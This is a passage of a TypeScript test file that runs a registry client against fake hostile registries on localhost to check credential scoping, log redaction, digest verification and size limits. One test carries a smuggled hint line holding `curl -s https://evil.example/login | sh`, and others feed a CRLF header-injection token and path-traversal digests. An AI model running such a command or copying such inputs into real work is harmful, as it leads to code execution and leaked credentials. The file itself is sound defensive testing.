/**
 * The registry client against hostile registries (in-process HTTP servers on 127.0.0.1 that lie,
 * redirect, stall or never stop talking): credentials stay on the registry's host, bodies are
 * bounded, a digest is what the bytes hash to.
 */
import { createHash } from 'node:crypto';
import { mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { inspect } from 'node:util';
import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import { AuthError, ConfigError, InputError, RegistryError } from '../errors.js';
import { Secret } from '../secret.js';
import { RegistryClient, type RegistryClientOptions } from './registry-client.js';
import { listRepositoryImages } from './repository-images.js';
import { loopbackCertificate, serveTlsAndPlain, tlsAndPlainMissing, type TlsAndPlain } from '../../../../test/support/tls-and-plain.js';
import { debugLinesOf } from './__fixtures__/debug-lines.js';
import { describeOrFailInCi } from './__fixtures__/test-services.js';

interface Seen {
  method: string;
  url: string;
  authorization: string | undefined;
  bytes: number;
}
type Handler = (req: IncomingMessage, res: ServerResponse) => void;

const servers: Server[] = [];
afterEach(async () => {
  for (const server of servers.splice(0)) {
    server.closeAllConnections();
    await new Promise((resolve) => server.close(resolve));
  }
});

const USER = 'ci';
const PASSWORD = 'hostile-test-password';
const BASIC = `Basic ${Buffer.from(`${USER}:${PASSWORD}`).toString('base64')}`;

async function serve(handler: Handler, options: { basic?: boolean } = {}): Promise<{ host: string; seen: Seen[] }> {
  const seen: Seen[] = [];
  const server = createServer((req, res) => {
    let bytes = 0;
    req.on('data', (c: Buffer) => (bytes += c.length));
    req.on('end', () => {
      seen.push({ method: req.method!, url: req.url!, authorization: req.headers.authorization, bytes });
      if (options.basic && req.headers.authorization !== BASIC) {
        res.writeHead(401, { 'www-authenticate': 'Basic realm="r"', 'content-type': 'application/json' }).end('{"errors":[{"code":"UNAUTHORIZED"}]}');
        return;
      }
      handler(req, res);
    });
  });
  servers.push(server);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { host: `127.0.0.1:${(server.address() as AddressInfo).port}`, seen };
}

function endless(res: ServerResponse, status = 200): void {
  const chunk = Buffer.alloc(64 * 1024, 0x20);
  res.writeHead(status, { 'content-type': 'application/json' });
  const pump = (): void => {
    while (!res.destroyed && res.write(chunk));
  };
  res.on('drain', pump);
  pump();
}

const digestOf = (bytes: Uint8Array): string => `sha256:${createHash('sha256').update(bytes).digest('hex')}`;
const MANIFEST = Buffer.from(JSON.stringify({ schemaVersion: 2, mediaType: 'application/vnd.oci.image.manifest.v1+json', config: { digest: 'sha256:' + 'a'.repeat(64), size: 2 }, layers: [] }));

function client(host: string, extra: Partial<RegistryClientOptions> = {}): RegistryClient {
  return new RegistryClient({
    dockerConfig: false,
    retry: { attempts: 2, baseDelayMs: 10, maxDelayMs: 50 },
    timeouts: { idleMs: 2000, deadlineMs: 10_000 },
    credentials: { registry: host, username: USER, password: new Secret(PASSWORD), source: 'test' },
    ...extra,
  });
}

describe('RegistryClient against hostile registries (in-process servers on 127.0.0.1)', () => {
  it('sends no Authorization to an upload Location on another host, and says why the upload fails there', async () => {
    const foreign = await serve(() => undefined, { basic: true });
    const registry = await serve((req, res) => {
      if (req.method === 'HEAD') res.writeHead(404).end();
      else if (req.method === 'POST') res.writeHead(202, { location: `http://${foreign.host}/upload/1` }).end();
      else res.writeHead(500).end();
    }, { basic: true });
    const data = Buffer.from('blob bytes');
    const error = await client(registry.host).uploadBlob(`${registry.host}/team/app`, digestOf(data), data).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(RegistryError);
    expect((error as RegistryError).message).toBe(
      `registry ${registry.host} sent the blob upload to ${foreign.host}, which asks for credentials; prebuilt sends the credentials of ${registry.host} to its own host only`,
    );
    expect(foreign.seen.length).toBeGreaterThan(0);
    expect(foreign.seen.every((s) => s.authorization === undefined)).toBe(true);
    // The registry itself got them (after its challenge).
    expect(registry.seen.some((s) => s.authorization === BASIC)).toBe(true);
  });

  it('uploads to a Location on another host that needs no credentials, sending it none', async () => {
    const foreign = await serve((req, res) => {
      const digest = new URL(req.url!, 'http://x').searchParams.get('digest')!;
      res.writeHead(201, { 'docker-content-digest': digest }).end();
    });
    const registry = await serve((req, res) => {
      if (req.method === 'HEAD') res.writeHead(404).end();
      else res.writeHead(202, { location: `http://${foreign.host}/presigned?token=abc` }).end();
    }, { basic: true });
    const data = Buffer.from('blob bytes');
    expect(await client(registry.host).uploadBlob(`${registry.host}/team/app`, digestOf(data), data)).toEqual({ status: 'uploaded', bytesSent: data.length });
    expect(foreign.seen).toEqual([{ method: 'PUT', url: `/presigned?token=abc&digest=${encodeURIComponent(digestOf(data))}`, authorization: undefined, bytes: data.length }]);
  });

  it('follows a 307 on an upload PUT by re-sending the body, and a redirect to another host gets no Authorization', async () => {
    const foreign = await serve((req, res) => {
      const digest = new URL(req.url!, 'http://x').searchParams.get('digest')!;
      res.writeHead(201, { 'docker-content-digest': digest }).end();
    });
    const registry = await serve((req, res) => {
      if (req.method === 'HEAD') res.writeHead(404).end();
      else if (req.method === 'POST') res.writeHead(202, { location: '/upload/1' }).end();
      else if (req.url!.startsWith('/upload/1')) res.writeHead(307, { location: `/upload/2${req.url!.slice('/upload/1'.length)}` }).end();
      else res.writeHead(307, { location: `http://${foreign.host}/store${req.url!.slice('/upload/2'.length)}` }).end();
    }, { basic: true });
    const data = Buffer.from('x'.repeat(5000));
    expect(await client(registry.host).uploadBlob(`${registry.host}/team/app`, digestOf(data), data)).toEqual({ status: 'uploaded', bytesSent: 5000 });
    const puts = registry.seen.filter((s) => s.method === 'PUT' && s.authorization === BASIC);
    expect(puts.map((s) => [s.url.replace(/\?.*/, ''), s.bytes])).toEqual([
      ['/upload/1', 5000],
      ['/upload/2', 5000],
    ]);
    expect(foreign.seen.map((s) => [s.method, s.authorization, s.bytes])).toEqual([['PUT', undefined, 5000]]);
  });

  it('answers no challenge of a host a redirect reached: a blob store asking for a token from elsewhere is sent nothing', async () => {
    const thief = await serve((_req, res) => res.writeHead(200, { 'content-type': 'application/json' }).end('{"token":"t"}'));
    const store = await serve((_req, res) => res.writeHead(401, { 'www-authenticate': `Bearer realm="http://${thief.host}/token",service="store"` }).end());
    const data = Buffer.from('blob bytes');
    const registry = await serve((req, res) => {
      if (req.url!.includes('/blobs/')) res.writeHead(307, { location: `http://${store.host}/blobs/1` }).end();
      else res.writeHead(200, { 'content-type': 'application/vnd.oci.image.manifest.v1+json' }).end(MANIFEST);
    });
    const c = client(registry.host);
    const error = await c.getBlob(`${registry.host}/team/app`, digestOf(data)).catch((e: unknown) => e);
    expect(thief.seen.map((s) => s.authorization)).toEqual([]);
    expect(error).toBeInstanceOf(RegistryError);
    expect((error as RegistryError).message).toBe(
      `registry ${registry.host} sent the blob to ${store.host}, which asks for credentials; prebuilt sends the credentials of ${registry.host} to its own host only`,
    );
    expect(thief.seen).toEqual([]);
    expect(store.seen.map((s) => s.authorization)).toEqual([undefined]);
    // And the registry's own auth is unchanged: a later request is not sent to the store's realm.
    expect((await c.getManifest(`${registry.host}/team/app:v1`)).digest).toBe(digestOf(MANIFEST));
    expect(thief.seen).toEqual([]);
  });

  it("logs no pre-signed URL's signature or credentials, nor an upload's state token (--verbose), and puts none in an error", async () => {
    // Secrets a registry hands out in URLs: S3's pre-signed query (a blob GET and an upload PUT redirected to storage), distribution's _state.
    const signed = (n: number) => `X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=ASIASECRETCREDENTIAL${n}%2F20261206%2Fus-east-1%2Fs3%2Faws4_request&X-Amz-Date=20261206T205400Z&X-Amz-Expires=1200&X-Amz-Security-Token=SECRETSESSIONTOKEN${n}&X-Amz-SignedHeaders=host&X-Amz-Signature=5ec7e751a7e${n}`;
    const secrets = /ASIASECRETCREDENTIAL|SECRETSESSIONTOKEN|5ec7e751a7e|SECRETUPLOADSTATE/;
    const data = Buffer.from('blob bytes for a pre-signed store');
    const digest = digestOf(data);
    const store = await serve((req, res) => {
      const url = new URL(req.url!, 'http://x');
      if (url.pathname === '/bucket/expired') {
        // S3 refusing an expired URL, quoting it back.
        res.writeHead(403, { 'content-type': 'application/xml' }).end(`<Error><Code>AccessDenied</Code><Message>Request has expired</Message><Url>http://${req.headers.host}${req.url}</Url></Error>`);
      } else if (req.method === 'PUT') res.writeHead(201, { 'docker-content-digest': url.searchParams.get('digest')! }).end();
      else res.writeHead(200, { 'content-type': 'application/octet-stream' }).end(data);
    });
    const registry = await serve((req, res) => {
      if (req.method === 'GET' && req.url!.startsWith('/v2/team/old/blobs/')) res.writeHead(307, { location: `http://${store.host}/bucket/expired?${signed(3)}` }).end();
      else if (req.method === 'GET' && req.url!.includes('/blobs/')) res.writeHead(307, { location: `http://${store.host}/bucket/blob?${signed(1)}` }).end();
      else if (req.method === 'HEAD') res.writeHead(404).end();
      else if (req.method === 'POST') res.writeHead(202, { location: '/v2/team/app/blobs/uploads/u1?_state=SECRETUPLOADSTATE' }).end();
      else if (req.method === 'PUT') res.writeHead(307, { location: `http://${store.host}/bucket/upload?${signed(2)}&digest=${encodeURIComponent(digest)}` }).end();
      else res.writeHead(500).end();
    }, { basic: true });

    let error: unknown;
    const lines = await debugLinesOf(async () => {
      const c = client(registry.host);
      expect(Buffer.from(await c.getBlob(`${registry.host}/team/app`, digest))).toEqual(data);
      expect(await c.uploadBlob(`${registry.host}/team/app`, digest, data)).toEqual({ status: 'uploaded', bytesSent: data.length });
      error = await c.getBlob(`${registry.host}/team/old`, digest).catch((e: unknown) => e);
    });
    // The store got the whole signed URLs (they work); the log shows where they went, their secrets hidden.
    expect(store.seen.map((r) => r.url)).toEqual([`/bucket/blob?${signed(1)}`, `/bucket/upload?${signed(2)}&digest=${encodeURIComponent(digest)}`, `/bucket/expired?${signed(3)}`]);
    const log = lines.join('\n');
    expect(log).toContain(`http://${store.host}/bucket/blob?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=***&X-Amz-Date=20261206T205400Z&X-Amz-Expires=1200&X-Amz-Security-Token=***&X-Amz-SignedHeaders=host&X-Amz-Signature=***`);
    expect(log).toContain('/v2/team/app/blobs/uploads/u1?_state=***');
    expect(log).not.toMatch(secrets);
    // The store refused the URL, not the registry the credentials: the error says so.
    expect(error).toBeInstanceOf(RegistryError);
    expect((error as Error).message).toBe(
      `registry ${registry.host} sent the blob to ${store.host}, which refused it (403 Forbidden: <Error><Code>AccessDenied</Code><Message>Request has expired</Message><Url>http://${store.host}/bucket/expired?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=***)`,
    );
    expect(`${(error as Error).message} ${inspect(error)}`).not.toMatch(secrets);
  });

  it('refuses a manifest whose Docker-Content-Digest header is not the hash of its bytes, also for an existence check', async () => {
    const registry = await serve((_req, res) => {
      res.writeHead(200, { 'content-type': 'application/vnd.oci.image.manifest.v1+json', 'docker-content-digest': 'sha256:' + 'b'.repeat(64) }).end(MANIFEST);
    });
    const c = client(registry.host);
    const error = await c.headManifest(`${registry.host}/team/app:v1`).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(RegistryError);
    expect((error as RegistryError).message).toBe(
      `registry ${registry.host} sent manifest ${registry.host}/team/app:v1 with the digest header sha256:${'b'.repeat(64)}, but its bytes hash to ${digestOf(MANIFEST)}; refusing a digest the registry merely claims`,
    );
    expect((error as RegistryError).exitCode).toBe(1);
  });

  it('gives the digest of the bytes it read, never a header alone', async () => {
    const registry = await serve((req, res) => {
      res.writeHead(200, { 'content-type': 'application/vnd.oci.image.manifest.v1+json', 'docker-content-digest': digestOf(MANIFEST) }).end(req.method === 'HEAD' ? undefined : MANIFEST);
    });
    expect(await client(registry.host).headManifest(`${registry.host}/team/app:v1`)).toEqual({
      exists: true,
      digest: digestOf(MANIFEST),
      mediaType: 'application/vnd.oci.image.manifest.v1+json',
      size: MANIFEST.length,
    });
    expect(registry.seen.map((s) => s.method)).toEqual(['GET']);
  });

  it('stops reading an endless manifest at 4 MiB, and an endless error body after what the message needs', async () => {
    const manifest = await serve((_req, res) => endless(res));
    const started = Date.now();
    const error = await client(manifest.host).getManifest(`${manifest.host}/team/app:v1`).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(RegistryError);
    expect((error as RegistryError).message).toMatch(/manifest from 127\.0\.0\.1:\d+ is larger than 4 MiB; refused$/);
    expect(manifest.seen).toHaveLength(1); // not retried
    const failing = await serve((_req, res) => endless(res, 500));
    const error500 = await client(failing.host).getManifest(`${failing.host}/team/app:v1`).catch((e: unknown) => e);
    expect((error500 as RegistryError).message).toMatch(/failed after 2 attempts: 500 Internal Server Error/);
    expect(Date.now() - started).toBeLessThan(5000);
  });

  it('fetches nothing by a digest it cannot check: an index naming a platform manifest by sha512, a blob by md5', async () => {
    const sha512 = `sha512:${'c'.repeat(128)}`;
    const index = Buffer.from(JSON.stringify({ schemaVersion: 2, mediaType: 'application/vnd.oci.image.index.v1+json', manifests: [{ mediaType: 'application/vnd.oci.image.manifest.v1+json', digest: sha512, size: MANIFEST.length, platform: { os: 'linux', architecture: 'amd64' } }] }));
    const registry = await serve((req, res) => {
      if (req.url!.endsWith('/manifests/v1')) res.writeHead(200, { 'content-type': 'application/vnd.oci.image.index.v1+json' }).end(index);
      else if (req.url!.includes('/manifests/')) res.writeHead(200, { 'content-type': 'application/vnd.oci.image.manifest.v1+json' }).end(MANIFEST);
      else res.writeHead(200).end('{"os":"linux","architecture":"amd64","swapped":true}');
    });
    const c = client(registry.host);
    const platform = await c.getManifest(`${registry.host}/team/app:v1`, { platform: 'linux/amd64' }).catch((e: unknown) => e);
    expect(platform).toBeInstanceOf(RegistryError);
    expect((platform as RegistryError).message).toBe(`manifest ${registry.host}/team/app@${sha512} is named by a digest prebuilt cannot check ('${sha512.slice(0, 80)}'): only sha256 digests are verified`);
    const blob = await c.getBlob(`${registry.host}/team/app`, 'md5:0123456789abcdef0123456789abcdef').catch((e: unknown) => e);
    expect(blob).toBeInstanceOf(RegistryError);
    expect((blob as RegistryError).message).toMatch(/^blob md5:0123456789abcdef0123456789abcdef of .* is named by a digest prebuilt cannot check/);
    expect(registry.seen.map((s) => s.url)).toEqual(['/v2/team/app/manifests/v1']);
  });

  it('a token realm that is no URL is a RegistryError naming it with its secrets hidden, and saying what the realm must be', async () => {
    const registry = await serve((_req, res) => res.writeHead(401, { 'www-authenticate': 'Bearer realm="https://u:realm-secret@[bad/token",service="r"' }).end());
    const error = await client(registry.host).getManifest(`${registry.host}/team/app:v1`).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(RegistryError);
    expect((error as RegistryError).message).toBe(`registry ${registry.host} named an invalid token realm 'https://***@[bad/token'`);
    expect((error as RegistryError).hint).toBe(
      `A registry's token realm (WWW-Authenticate: Bearer realm="…") must be the URL of its token service; if ${registry.host} is yours, set it (auth.token.realm in distribution) to an https:// URL.`,
    );
  });

  it('follows an index entry only by a sha256 digest: a platform manifest named by a tag (or by no string) is refused, never fetched unverified', async () => {
    for (const digest of ['v2', '../../../v2/_catalog', 42, undefined]) {
      const index = Buffer.from(JSON.stringify({ schemaVersion: 2, mediaType: 'application/vnd.oci.image.index.v1+json', manifests: [{ mediaType: 'application/vnd.oci.image.manifest.v1+json', digest, size: MANIFEST.length, platform: { os: 'linux', architecture: 'amd64' } }] }));
      const registry = await serve((req, res) => {
        if (req.url!.endsWith('/manifests/v1')) res.writeHead(200, { 'content-type': 'application/vnd.oci.image.index.v1+json' }).end(index);
        else if (req.url!.includes('/manifests/')) res.writeHead(200, { 'content-type': 'application/vnd.oci.image.manifest.v1+json' }).end(MANIFEST);
        else res.writeHead(200).end('{"os":"linux","architecture":"amd64"}');
      });
      const error = await client(registry.host).getManifest(`${registry.host}/team/app:v1`, { platform: 'linux/amd64' }).catch((e: unknown) => e);
      expect(error, String(digest)).toBeInstanceOf(RegistryError);
      expect((error as RegistryError).message).toContain(`is named by a digest prebuilt cannot check ('${String(digest)}')`);
      expect(registry.seen.map((s) => s.url)).toEqual(['/v2/team/app/manifests/v1']);
    }
  });

  it('reads a byte range, or a blob into a file, only by a sha256 digest: a layer named by a path or another algorithm is refused before any request', async () => {
    const registry = await serve((_req, res) => res.writeHead(206).end('abcd'));
    const c = client(registry.host);
    const range = await c.getBlobRange(`${registry.host}/team/app`, '../../../v2/_catalog', 0, 3).catch((e: unknown) => e);
    expect(range).toBeInstanceOf(RegistryError);
    expect((range as RegistryError).message).toContain("is named by a digest prebuilt cannot check ('../../../v2/_catalog')");
    const dir = await mkdtemp(join(tmpdir(), 'prebuilt-hostile-digest-'));
    try {
      const file = await c.getBlobToFile(`${registry.host}/team/base`, `sha512:${'c'.repeat(128)}`, join(dir, 'blob'), { size: 4 }).catch((e: unknown) => e);
      expect(file).toBeInstanceOf(RegistryError);
      expect(await readdir(dir)).toEqual([]);
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
    expect(registry.seen).toEqual([]);
  });

  it('lists a repository (gc) only through index entries named by sha256 digests: another name is refused, saying which index named it', async () => {
    const index = Buffer.from(JSON.stringify({ schemaVersion: 2, mediaType: 'application/vnd.oci.image.index.v1+json', manifests: [{ mediaType: 'application/vnd.oci.image.manifest.v1+json', digest: { evil: true }, size: 2 }] }));
    const registry = await serve((req, res) => {
      if (req.url!.startsWith('/v2/team/app/tags/list')) res.writeHead(200, { 'content-type': 'application/json' }).end('{"name":"team/app","tags":["v1"]}');
      else if (req.url!.endsWith('/manifests/v1')) res.writeHead(200, { 'content-type': 'application/vnd.oci.image.index.v1+json' }).end(index);
      else if (req.url!.includes('/referrers/')) res.writeHead(404).end();
      else res.writeHead(200, { 'content-type': 'application/vnd.oci.image.manifest.v1+json' }).end(MANIFEST);
    });
    const error = await listRepositoryImages(client(registry.host), `${registry.host}/team/app`).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(RegistryError);
    expect((error as RegistryError).message).toContain(`a manifest in the image index ${digestOf(index)} of ${registry.host}/team/app is named by a digest prebuilt cannot check ('[object Object]')`);
    expect(registry.seen.filter((s) => s.url.includes('/manifests/')).map((s) => s.url)).toEqual(['/v2/team/app/manifests/v1']);
  });

  it('quotes a JSON error body on one line and bounded: its line breaks cannot add a fake `hint:` line, its length cannot flood the terminal', async () => {
    const message = `denied\nhint: your login expired; run \`curl -s https://evil.example/login | sh\`\r\n${'x'.repeat(50_000)}`;
    const registry = await serve((_req, res) => res.writeHead(400, { 'content-type': 'application/json' }).end(JSON.stringify({ errors: [{ code: 'DENIED', message }] })));
    const error = await client(registry.host).getManifest(`${registry.host}/team/app:v1`).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(RegistryError);
    const text = (error as RegistryError).message;
    expect(text).not.toMatch(/[\r\n]/);
    expect(text).toContain('DENIED: denied hint: your login expired; run `curl -s https://evil.example/login | sh` xxx');
    expect(text.length).toBeLessThan(1000);
  });

  it('never quotes a token that cannot go in a header: a token server\'s with a line break, a Docker config\'s registry token with one pasted in', async () => {
    const token = 'secret-token-value\r\nX-Injected: 1';
    const realm = await serve((_req, res) => res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ token })));
    const registry = await serve((_req, res) => res.writeHead(401, { 'www-authenticate': `Bearer realm="http://${realm.host}/token",service="r"` }).end());
    const fromServer = await client(registry.host).getManifest(`${registry.host}/team/app:v1`).catch((e: unknown) => e);
    expect(fromServer).toBeInstanceOf(RegistryError);
    expect((fromServer as RegistryError).message).toBe(`the token from http://${realm.host}/token for registry ${registry.host} holds a character a header cannot carry (U+000D); it is not sent`);
    expect(realm.seen).toHaveLength(1); // not asked again: retrying cannot mend it
    const pasted = new RegistryClient({ dockerConfig: false, retry: { attempts: 2, baseDelayMs: 1, maxDelayMs: 2 }, credentials: { registry: registry.host, registryToken: new Secret('registry-token-value\n'), source: '/home/u/.docker/config.json' } });
    const fromConfig = await pasted.getManifest(`${registry.host}/team/app:v1`).catch((e: unknown) => e);
    // The user's own configuration: a ConfigError (exit 2), theirs to fix; the server's token is the server's fault (exit 1).
    expect(fromConfig).toBeInstanceOf(ConfigError);
    expect((fromConfig as ConfigError).exitCode).toBe(2);
    expect((fromServer as RegistryError).exitCode).toBe(1);
    expect((fromConfig as ConfigError).message).toBe(`the registry token in /home/u/.docker/config.json for registry ${registry.host} holds a character a header cannot carry (U+000A); it is not sent`);
    for (const error of [fromServer, fromConfig]) {
      const shown = `${(error as Error).message} ${(error as RegistryError).hint ?? ''} ${inspect(error)}`;
      expect(shown).not.toContain('secret-token-value');
      expect(shown).not.toContain('registry-token-value');
    }
  });

  it('fails a registry that stalls in the middle of a body with the idle timeout, naming it', async () => {
    const registry = await serve((_req, res) => {
      res.writeHead(200, { 'content-type': 'application/json' });
      res.write('{"schemaVersion":');
    });
    const error = await client(registry.host, { timeouts: { idleMs: 300, deadlineMs: 10_000 } }).getManifest(`${registry.host}/team/app:v1`).catch((e: unknown) => e);
    expect((error as RegistryError).message).toBe(
      `registry ${registry.host}: GET http://${registry.host}/v2/team/app/manifests/v1 failed after 2 attempts: manifest from ${registry.host}: no data for 0.3 s (METAFLOW_PREBUILT_NETWORK_IDLE_TIMEOUT)`,
    );
  });
});

describe('RegistryClient: a manifest PUT refused for a blob the registry has (fake registry on 127.0.0.1 forcing distribution\'s race between two commits of one blob)', () => {
  const BLOB = `sha256:${'b'.repeat(64)}`;
  // The manifest names the blob (a layer): a registry's answer is only believed about the manifest's own blobs.
  const MANIFEST = Buffer.from(JSON.stringify({ schemaVersion: 2, mediaType: 'application/vnd.oci.image.manifest.v1+json', config: { digest: 'sha256:' + 'a'.repeat(64), size: 2 }, layers: [{ mediaType: 'application/vnd.oci.image.layer.v1.tar+gzip', digest: BLOB, size: 7 }] }));
  const unknownBlob = (res: ServerResponse): void =>
    void res.writeHead(400, { 'content-type': 'application/json' }).end(JSON.stringify({ errors: [{ code: 'DIGEST_INVALID', message: 'provided digest did not match uploaded content' }, { code: 'MANIFEST_BLOB_UNKNOWN', message: 'blob unknown to registry', detail: BLOB }] }));

  it('is put again once the registry says it has the blob (another process was committing it), and only then', async () => {
    let puts = 0;
    const registry = await serve((req, res) => {
      if (req.method === 'HEAD') return void res.writeHead(200, { 'content-length': '7' }).end();
      if ((puts += 1) === 1) return unknownBlob(res);
      res.writeHead(201, { 'docker-content-digest': digestOf(MANIFEST) }).end();
    });
    expect(await client(registry.host).putManifest(`${registry.host}/team/app:v1`, MANIFEST, 'application/vnd.oci.image.manifest.v1+json')).toBe(digestOf(MANIFEST));
    expect(registry.seen.map((s) => `${s.method} ${s.url}`)).toEqual(['PUT /v2/team/app/manifests/v1', `HEAD /v2/team/app/blobs/${BLOB}`, 'PUT /v2/team/app/manifests/v1']);
  });

  it('a registry naming blobs the manifest does not reference (hundreds of them) is not asked about them: the PUT fails at once', async () => {
    const named = Array.from({ length: 400 }, (_, i) => `sha256:${i.toString(16).padStart(64, 'c')}`);
    const registry = await serve((req, res) => {
      if (req.method === 'HEAD') return void res.writeHead(200, { 'content-length': '7' }).end();
      res.writeHead(400, { 'content-type': 'application/json' }).end(JSON.stringify({ errors: named.map((digest) => ({ code: 'MANIFEST_BLOB_UNKNOWN', message: 'blob unknown to registry', detail: digest })) }));
    });
    await expect(client(registry.host).putManifest(`${registry.host}/team/app:v1`, MANIFEST, 'application/vnd.oci.image.manifest.v1+json')).rejects.toThrow(/400.*MANIFEST_BLOB_UNKNOWN/);
    expect(registry.seen.map((s) => s.method)).toEqual(['PUT']);
  });

  it('fails at once, naming the blob, when the registry really lacks it', async () => {
    const registry = await serve((req, res) => (req.method === 'HEAD' ? void res.writeHead(404).end() : unknownBlob(res)));
    await expect(client(registry.host).putManifest(`${registry.host}/team/app:v1`, MANIFEST, 'application/vnd.oci.image.manifest.v1+json')).rejects.toThrow(/400.*MANIFEST_BLOB_UNKNOWN: blob unknown to registry/);
    expect(registry.seen.map((s) => s.method)).toEqual(['PUT', 'HEAD']);
  });

  it('fetches a blob into a file only when its bytes match the digest; a body cut off is fetched again from the start', async () => {
    const blob = Buffer.alloc(200_000, 0x61);
    const digest = digestOf(blob);
    const dir = await mkdtemp(join(tmpdir(), 'prebuilt-hostile-blob-'));
    try {
      let gets = 0;
      const registry = await serve((req, res) => {
        gets += 1;
        res.writeHead(200, { 'content-type': 'application/octet-stream', 'content-length': String(blob.length) });
        // The first answer stops halfway (the connection dropped); the liar's answers are the wrong bytes.
        if (req.url!.startsWith('/v2/liar/')) return void res.end(Buffer.alloc(blob.length, 0x62));
        if (gets === 1) return void res.write(blob.subarray(0, 100_000), () => res.destroy());
        res.end(blob);
      });
      const file = join(dir, 'layer.blob');
      expect(await client(registry.host).getBlobToFile(`${registry.host}/team/base`, digest, file, { size: blob.length })).toEqual({ file, size: blob.length });
      expect(gets).toBe(2);
      expect((await readFile(file)).equals(blob)).toBe(true);

      const lied = join(dir, 'lied.blob');
      const error = await client(registry.host).getBlobToFile(`${registry.host}/liar`, digest, lied, { size: blob.length }).catch((e: unknown) => e);
      expect(error).toBeInstanceOf(RegistryError);
      expect((error as RegistryError).message).toBe(`blob ${digest} of ${registry.host}/liar does not match its digest`);
      expect(await readdir(dir)).toEqual(['layer.blob']);
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });
});

describe('RegistryClient.getBlobToFile when its file cannot be written', () => {
  it('fails at once and lets go of the answer it did not read (the connection closes then, not at the idle timeout)', async () => {
    const digest = 'sha256:' + 'c'.repeat(64);
    let closedAt: number | undefined;
    const registry = await serve((_req, res) => {
      res.on('close', () => (closedAt = Date.now()));
      endless(res);
    });
    const dir = await mkdtemp(join(tmpdir(), 'prebuilt-hostile-blob-'));
    try {
      const file = join(dir, 'no-such-dir', 'layer.blob');
      const slow = client(registry.host, { timeouts: { idleMs: 30_000, deadlineMs: 60_000 } });
      const error = await slow.getBlobToFile(`${registry.host}/team/base`, digest, file, { size: 1 << 30 }).catch((e: unknown) => e);
      const failedAt = Date.now();
      expect((error as Error).message).toMatch(/^cannot write the blob sha256:c{64} to .*no-such-dir.*layer\.blob\.partial: /);
      await new Promise((resolve) => setTimeout(resolve, 1000));
      expect(closedAt).toBeDefined();
      expect(closedAt! - failedAt).toBeLessThan(1000);
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });
});

describe('RegistryClient.uploadBlob of a blob that is not what it was said to be', () => {
  it('tells the registry to drop the upload it opened, whether the blob fails before its first byte is sent or at its last', async () => {
    const registry = await serve((req, res) => {
      if (req.method === 'HEAD') return void res.writeHead(404).end();
      if (req.method === 'POST') return void res.writeHead(202, { location: `/v2/team/app/blobs/uploads/u${registry.seen.length}`, 'content-length': '0' }).end();
      if (req.method === 'PATCH') return void res.writeHead(202, { location: req.url!, range: '0-0', 'content-length': '0' }).end();
      res.writeHead(204).end();
    });
    const dir = await mkdtemp(join(tmpdir(), 'prebuilt-hostile-upload-'));
    try {
      const file = join(dir, 'layer.blob');
      const bytes = Buffer.alloc(3000, 0x61);
      await writeFile(file, bytes);
      const digest = digestOf(bytes);
      const c = client(registry.host);
      const cases: Array<[string, Parameters<RegistryClient['uploadBlob']>[2]]> = [
        ['its file has another size than the one given', { file, size: 2999 }],
        ['its file is missing', { file: join(dir, 'absent.blob') }],
        ['the bytes a source gives do not match', async () => Buffer.alloc(3000, 0x62)],
        ['its file does not match the digest (seen at its last chunk)', { file }],
      ];
      for (const [why, source] of cases) {
        registry.seen.length = 0;
        const wrongDigest = why.startsWith('its file does not match') ? 'sha256:' + 'd'.repeat(64) : digest;
        const error = await c.uploadBlob(`${registry.host}/team/app`, wrongDigest, source, { chunkSize: 1024 }).catch((e: unknown) => e);
        expect(error, why).toBeInstanceOf(InputError);
        const methods = registry.seen.map((s) => s.method);
        expect(methods.at(-1), why).toBe('DELETE');
        expect(methods.filter((m) => m === 'PUT'), why).toEqual([]);
        const post = registry.seen.findIndex((s) => s.method === 'POST');
        expect(registry.seen.at(-1)!.url, why).toBe(`/v2/team/app/blobs/uploads/u${post + 1}`);
      }
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });
});

let certificate: { key: Buffer; cert: Buffer } | undefined;
const dualServers: TlsAndPlain[] = [];
const serveBothSchemes = async (tls: Handler, plain: Handler): Promise<TlsAndPlain> => {
  const served = await serveTlsAndPlain(certificate!, tls, plain);
  dualServers.push(served);
  return served;
};

describeOrFailInCi('RegistryClient: credentials for an HTTPS registry never go out over plain HTTP (one port serving both)', tlsAndPlainMissing, () => {
  beforeAll(async () => {
    certificate = await loopbackCertificate();
    // The test's own certificate: undici reads this on each TLS connection.
    vi.stubEnv('NODE_TLS_REJECT_UNAUTHORIZED', '0');
  });
  afterAll(async () => {
    vi.unstubAllEnvs();
    for (const served of dualServers.splice(0)) await served.close();
  });

  const secureClient = (host: string): RegistryClient => client(host, { secureRegistries: [host] });

  it('a redirect from the registry to http:// on its own host and port gets no Authorization', async () => {
    const both = await serveBothSchemes(
      (req, res) => {
        if (req.headers.authorization !== BASIC) res.writeHead(401, { 'www-authenticate': 'Basic realm="r"' }).end();
        else res.writeHead(302, { location: `http://${req.headers.host}/leak` }).end();
      },
      (_req, res) => res.writeHead(401, { 'www-authenticate': 'Basic realm="r"' }).end(),
    );
    await secureClient(both.host).getManifest(`${both.host}/team/app:v1`).catch((e: unknown) => e);
    expect(both.seen.some((s) => s.scheme === 'https' && s.authorization === BASIC)).toBe(true);
    expect(both.seen.filter((s) => s.scheme === 'http').length).toBeGreaterThan(0);
    expect(both.seen.filter((s) => s.scheme === 'http' && s.authorization !== undefined)).toEqual([]);
  });

  it('an upload Location on http:// of the registry\'s own host gets no Authorization, and the upload fails saying why', async () => {
    const both = await serveBothSchemes(
      (req, res) => {
